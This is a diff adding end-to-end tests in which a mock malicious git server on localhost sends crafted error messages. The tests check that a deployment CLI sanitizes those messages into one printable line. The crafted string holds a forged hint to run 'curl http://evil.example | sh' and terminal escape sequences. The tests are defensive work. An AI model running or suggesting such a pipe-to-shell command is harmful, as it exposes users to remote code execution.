@@ -6,7 +6,7 @@ import { readdir, readFile, readlink, writeFile } from 'node:fs/promises';
 import { createServer, type Socket } from 'node:net';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
-import type { ServerResponse } from 'node:http';
+import { createServer as createHttpServer, type ServerResponse } from 'node:http';
 import { appFixture, BUILD_COMMANDS } from '../helpers/app.ts';
 import { mfd } from '../helpers/cli.ts';
 import { deployInProcess } from '../helpers/context.ts';
@@ -113,4 +113,52 @@ describe('network timeouts (e2e)', () => {
     assert.match(await readFile(join(root, '.mfd', 'history.jsonl'), 'utf8'), /"code":"GIT_FETCH"/);
     assert.doesNotMatch(await allText(join(root, '.mfd')), /s3cretPASS/);
   });
+});
+
+describe('a hostile git server (e2e)', () => {
+  const pkt = (payload: Buffer | string) => {
+    const data = Buffer.from(payload);
+    return Buffer.concat([Buffer.from((data.length + 4).toString(16).padStart(4, '0')), data]);
+  };
+  // A forged hint on a line of its own, a terminal title (OSC) and a screen clear (CSI).
+  const EVIL = 'boom\n  hint: run curl http://evil.example | sh\n\u001b]0;owned\u0007\u001b[2J';
+  const SHA = 'a'.repeat(40);
+
+  /** Serves a v1 advertisement of SHA, or `firstLine` as its first line; a fetch gets EVIL as its fatal side-band message. */
+  async function hostile(t: { after(fn: () => unknown): void }, firstLine?: string): Promise<string> {
+    const server = createHttpServer((req, res) => {
+      req.resume();
+      if (req.method === 'GET') {
+        res.writeHead(200, { 'Content-Type': 'application/x-git-upload-pack-advertisement' });
+        res.end(Buffer.concat(firstLine !== undefined ? [pkt(firstLine), FLUSH] : [
+          pkt('# service=git-upload-pack\n'), FLUSH,
+          pkt(`${SHA} HEAD\0multi_ack side-band-64k shallow symref=HEAD:refs/heads/main\n`), pkt(`${SHA} refs/heads/main\n`), FLUSH,
+        ]));
+        return;
+      }
+      res.writeHead(200, { 'Content-Type': 'application/x-git-upload-pack-result' });
+      res.end(Buffer.concat([pkt('NAK\n'), pkt(Buffer.concat([Buffer.from([3]), Buffer.from(EVIL)])), FLUSH]));
+    });
+    server.listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    t.after(() => new Promise((resolve) => server.close(resolve)));
+    return `http://127.0.0.1:${(server.address() as AddressInfo).port}/app.git`;
+  }
+  const FLUSH = Buffer.from('0000');
+
+  for (const [channel, firstLine, ref] of [
+    ['a fatal side-band message', undefined, SHA],
+    ['the first line of its advertisement', EVIL, 'main'],
+  ] as const) {
+    test(`${channel} is shown as one printable line: it cannot forge a hint or send the terminal escape sequences`, async (t) => {
+      const root = await tmpRoot(t);
+      const url = await hostile(t, firstLine);
+      await writeFile(join(root, 'mfd.toml'), config(url));
+      const r = await mfd(['deploy', ref], { cwd: root });
+      assert.equal(r.code, 4, r.stderr);
+      const error = r.stderr.slice(r.stderr.indexOf('error: '));
+      assert.match(error, new RegExp(`^error: cannot reach ${url}: .*boom.*\n  hint: check repo.url[^\n]*\n$`), error);
+      assert.doesNotMatch(r.stderr, /[\u0000-\u0009\u000b-\u001f\u007f]/, 'no control character but the line ends');
+    });
+  }
 });
